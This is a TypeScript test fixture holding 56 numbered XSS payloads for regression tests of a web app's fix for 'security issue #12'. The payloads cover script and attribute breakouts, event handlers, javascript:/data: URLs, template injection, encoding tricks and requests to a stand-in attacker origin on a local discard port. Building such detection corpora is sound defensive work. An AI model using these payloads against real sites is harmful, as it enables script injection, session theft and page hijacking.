/**
 * The XSS corpus of security issue #12: strings a visitor or an operator could type into any
 * text that reaches a page. Each one, if it ever ran, would hit a sink the spec watches: a
 * dialog (`alert(n)`), `window.__xss = n`, or a request to the attacker's address below; and
 * each one that would create markup gives its element `id=xss<n>`, so markup parsed from it is
 * found even where the Content-Security-Policy stops the script.
 *
 * Every payload is one trimmed line of at most 100 characters (a server name's limit), so the
 * same string can go into every single-line field; the long-text fields take them joined.
 */

/** Where a payload that got to run would send the visitor (port 9: discard, nothing answers). */
export const ATTACKER_ORIGIN = 'http://127.0.0.1:9';

/** True for a URL only a running payload would ask for. */
export function isAttackerUrl(url: string): boolean {
  try {
    const { origin, pathname } = new URL(url);
    return origin === ATTACKER_ORIGIN || pathname.startsWith('/xss-');
  } catch {
    return false;
  }
}

export interface Payload {
  /** The number its sinks carry: alert(n), window.__xss = n, /xss-n, id=xss<n>. */
  n: number;
  /** What the corpus probes, for failure messages. */
  kind: string;
  text: string;
}

const B64_SCRIPT = Buffer.from('<script>alert(15)</script>').toString('base64');

const CORPUS: [kind: string, text: string][] = [
  ['JSON-LD breakout of issue #12', 'Zeta</script><script id=xss1>window.__xss=1;alert(1)</script>'],
  ['script end then image handler', '</script><img id=xss2 src=x onerror=alert(2)>'],
  ['comment opener then script', '<!--<script id=xss3>alert(3)</script>-->'],
  ['comment closer then script', '--><script id=xss4>alert(4)</script><!--'],
  ['image error handler', '<img id=xss5 src=x onerror=alert(5)>'],
  ['SVG onload', '<svg id=xss6 onload=alert(6)>'],
  ['script inside SVG', '<svg><script id=xss7>alert(7)</script></svg>'],
  ['double-quoted attribute then script', '"><script id=xss8>alert(8)</script>'],
  ['single-quoted attribute then image', "'><img id=xss9 src=x onerror=alert(9)>"],
  ['single-quoted JS string breakout', "'-alert(10)-'"],
  ['double-quoted JS string breakout', '";alert(11);//'],
  ['javascript: URL', 'javascript:alert(12)'],
  ['mixed-case javascript: URL', 'JaVaScRiPt:window.__xss=13'],
  ['data:text/html URL', 'data:text/html,<script id=xss14>alert(14)</script>'],
  ['base64 data:text/html URL', `data:text/html;base64,${B64_SCRIPT}#xss15`],
  ['Angular/Vue template injection', "{{constructor.constructor('alert(16)')()}}"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  ['JS template literal', '${alert(17)}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  ['template literal in backticks', '`${window.__xss=18}`'],
  ['server template tags', '<%= alert(19) %>#{alert(19)}'],
  ['JS unicode escapes of markup', '\\u003cscript id=xss20\\u003ealert(20)\\u003c/script\\u003e'],
  ['fullwidth angle brackets', '＜script id=xss21＞alert(21)＜/script＞'],
  ['U+2028/U+2029 line terminators', 'Line\u2028alert(22)\u2029//'],
  ['iframe srcdoc', '<iframe id=xss23 srcdoc="<script>parent.alert(23)</script>"></iframe>'],
  ['MathML namespace confusion', '<math><mtext><table><mglyph><style><img id=xss24 src=x onerror=alert(24)>'],
  ['style element breakout', '</style><img id=xss25 src=x onerror=alert(25)>'],
  ['style import from attacker', `<style id=xss26>@import '${ATTACKER_ORIGIN}/xss-26';</style>`],
  ['anchor with javascript: href', '<a id=xss27 href=javascript:alert(27)>claim prize</a>'],
  ['double-quote attribute breakout', '" autofocus onfocus="alert(28)" id="xss28'],
  ['single-quote attribute breakout', "' autofocus onfocus='alert(29)' id='xss29"],
  ['meta refresh', `<meta id=xss30 http-equiv=refresh content="0;url=${ATTACKER_ORIGIN}/xss-30">`],
  ['base href hijack', `<base id=xss31 href=${ATTACKER_ORIGIN}/xss-31/>`],
  ['form action to attacker', `<form id=xss32 action=${ATTACKER_ORIGIN}/xss-32><button>Go</button></form>`],
  ['details ontoggle', '<details id=xss33 open ontoggle=alert(33)>'],
  ['body onload', '<body id=xss34 onload=alert(34)>'],
  ['autofocus input onfocus', '<input id=xss35 autofocus onfocus=alert(35)>'],
  ['object with data: URL', '<object id=xss36 data="data:text/html,<script>alert(36)</script>"></object>'],
  ['embed javascript: src', '<embed id=xss37 src=javascript:alert(37)>'],
  ['video source onerror', '<video id=xss38><source onerror=alert(38)></video>'],
  ['noscript title breakout', '<noscript><p title="</noscript><img id=xss39 src=x onerror=alert(39)>">'],
  ['textarea breakout', '</textarea><img id=xss40 src=x onerror=alert(40)>'],
  ['title breakout', '</title><img id=xss41 src=x onerror=alert(41)>'],
  ['nested script tag filter evasion', '<scr<script>ipt id=xss42>alert(42)</scr</script>ipt>'],
  ['URL-encoded script', '%3Cscript id%3Dxss43%3Ealert(43)%3C/script%3E'],
  ['HTML-entity encoded markup', '&lt;img id=xss44 src=x onerror=alert(44)&gt;'],
  ['entity-encoded handler', '<IMG ID=xss45 SRC=x ONERROR=&#97;lert(45)>'],
  ['SVG animate onbegin', '<svg id=xss46><animate onbegin=alert(46) attributeName=x dur=1s>'],
  ['style url(javascript:)', '<div id=xss47 style="background:url(javascript:alert(47))">x</div>'],
  ['escaped-quote JSON breakout', '\\"};window.__xss=48;//'],
  ['external script from attacker', `<script id=xss49 src=${ATTACKER_ORIGIN}/xss-49.js></script>`],
  ['stylesheet from attacker', `<link id=xss50 rel=stylesheet href=${ATTACKER_ORIGIN}/xss-50.css>`],
  ['template element', '<template id=xss51><img src=x onerror=alert(51)></template>'],
  ['anchor with data: href', '<a id=xss52 href="data:text/html,<script>alert(52)</script>">open</a>'],
  ['SVG xlink javascript: link', '<svg><a id=xss53 xlink:href=javascript:alert(53)><text y=9>x</text></a></svg>'],
  ['select/noembed parser confusion', '<select><noembed></select><script id=xss54>alert(54)</script>'],
  ['img srcset to attacker', `<img id=xss55 srcset=${ATTACKER_ORIGIN}/xss-55.png>`],
  ['vbscript: URL', 'vbscript:msgbox(56)'],
];

/** The corpus, numbered 1..N in order (each text carries its own number). */
export const PAYLOADS: readonly Payload[] = CORPUS.map(([kind, text], i) => ({ n: i + 1, kind, text }));

for (const p of PAYLOADS) {
  // A payload that breaks these rules would be refused by the single-line fields, not tested.
  if (p.text.length > 100 || p.text !== p.text.trim() || /[\u0000-\u001f\u007f-\u009f]/.test(p.text)) {
    throw new Error(`Payload ${p.n} (${p.kind}) is not one trimmed line of at most 100 characters`);
  }
  if (!p.text.includes(String(p.n))) throw new Error(`Payload ${p.n} (${p.kind}) does not carry its number`);
}

/** Every payload, one per line: for the long-text fields (descriptions, messages, site content). */
export const ALL_PAYLOADS_TEXT = PAYLOADS.map((p) => p.text).join('\n');
